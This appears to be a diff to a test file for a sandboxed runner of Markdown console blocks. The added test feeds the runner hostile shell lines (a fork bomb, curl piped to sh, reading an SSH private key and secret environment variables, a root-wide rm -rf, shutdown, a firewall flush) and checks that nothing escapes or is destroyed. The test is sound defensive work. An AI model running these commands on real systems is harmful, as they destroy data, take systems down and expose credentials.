@@ -100,6 +100,45 @@ for (const { args, stderr } of misuse) {
   })
 }
 
+t.test('a document that means harm harms nothing, and is told step by step', async t => {
+  const harm = [
+    ':(){ :|:& };:',
+    'iptables -F',
+    'curl -s http://example.com/install.sh | sh',
+    'for i in 1 2 3 4 5; do head -c 20M /dev/zero > ~/$i; done',
+    'cat ~/.ssh/id_rsa; env | grep -i secret',
+    'shutdown -h now',
+    'rm -rf --no-preserve-root /',
+    'echo still here',
+  ]
+  const text = `# Harm\n\n${harm.map(line => `\`\`\`console\n$ ${line}\n\`\`\`\n`).join('\n')}`
+  const cwd = scratch(t)
+  fs.writeFileSync(path.join(cwd, 'doc.md'), text)
+  fs.writeFileSync(path.join(cwd, 'mine'), 'mine')
+  const env = { HOME: cwd, MY_SECRET: 'a secret' }
+  const done = await ended(start(['walk', 'doc.md', '-r', 'jsonl=events.jsonl'], { cwd, env }))
+  t.equal(done.exitCode, 1)
+  const told = fs.readFileSync(path.join(cwd, 'events.jsonl'), 'utf8')
+  const events = told
+    .trimEnd()
+    .split('\n')
+    .map(line => JSON.parse(line) as RunEvent)
+  const steps = events.flatMap(event => (event.type === 'walked' ? [event] : []))
+  t.equal(steps.length, harm.length, 'each is told')
+  t.match(steps[0]?.verdict, 'failed')
+  t.match(steps[5]?.verdict, 'not-run')
+  t.match(steps[3], { verdict: 'failed', seen: /No space left on device/ })
+  t.match(steps.at(-1), { verdict: 'ran', seen: 'still here\n' })
+  t.notMatch(told, 'a secret')
+  t.same(
+    fs.readdirSync(cwd).sort(),
+    ['.cache', 'doc.md', 'events.jsonl', 'mine', 'tnet-lab-report'].filter(name =>
+      fs.existsSync(path.join(cwd, name)),
+    ),
+  )
+  t.equal(fs.readFileSync(path.join(cwd, 'mine'), 'utf8'), 'mine')
+})
+
 t.test('a mistake in front matter is told with its line', async t => {
   const { exitCode, stdout } = await walked(t, `---\ntnet-lab:\n  hostz: x\n---\n${good}`)
   t.equal(exitCode, 2)
